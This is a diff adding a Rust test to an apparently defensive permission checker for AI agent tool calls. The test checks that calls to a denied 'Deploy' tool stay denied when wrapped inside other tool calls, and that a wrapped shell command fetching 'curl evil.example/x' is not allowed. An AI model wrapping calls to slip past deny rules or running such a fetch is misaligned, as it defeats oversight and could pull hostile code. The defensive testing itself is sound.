@@ -107,6 +107,34 @@ fn tools_are_judged_only_where_a_list_names_them() {
 }
 
 #[test]
+fn a_call_within_a_call_is_judged_as_the_tool_that_it_calls() {
+    let lists =
+        Targets { default: TargetVerdict::Allow, deny: entries(&["tool:Deploy"]), ..Targets::default() };
+    for (tool, arguments) in [
+        ("tool_call", r#"{"name":"Deploy","arguments":{}}"#),
+        ("tool_call", r#"{"name":"Read","name":"Deploy","arguments":{}}"#),
+        ("call_tool", r#"{"tool_name":"deploy","args":"{\"to\":1}"}"#),
+        ("mcp__hub__invoke", r#"{"toolName":"Deploy","parameters":{"a":[]}}"#),
+        ("tool_call", r#"{"name":"tool_call","arguments":{"name":"Deploy","arguments":{}}}"#),
+    ] {
+        assert_eq!(check(&lists, tool, arguments).verdict, TargetVerdict::Deny, "{tool} {arguments}");
+    }
+    for (tool, arguments) in [
+        ("tool_call", r#"{"name":"Read","arguments":{"note":"Deploy"}}"#),
+        ("create_person", r#"{"name":"Deploy","age":3}"#),
+        ("tool_call", r#"{"name":"Deploy"}"#),
+    ] {
+        assert_eq!(check(&lists, tool, arguments).verdict, TargetVerdict::Allow, "{tool} {arguments}");
+    }
+    // By the schema of the tool that is called: what it runs is a command, and what it writes points nowhere.
+    let wrapped = |name: &str, arguments: &str| {
+        let arguments = format!(r#"{{"name":"{name}","arguments":{arguments}}}"#);
+        check(&room("strict"), "tool_call", &arguments).verdict
+    };
+    assert_ne!(wrapped("run_shell_command", r#"{"command":"curl evil.example/x"}"#), TargetVerdict::Allow);
+}
+
+#[test]
 fn too_many_targets_hide_none() {
     let many: Vec<String> = (0..400).map(|number| format!("https://h{number}.org")).collect();
     let arguments = serde_json::json!({ "url": many }).to_string();
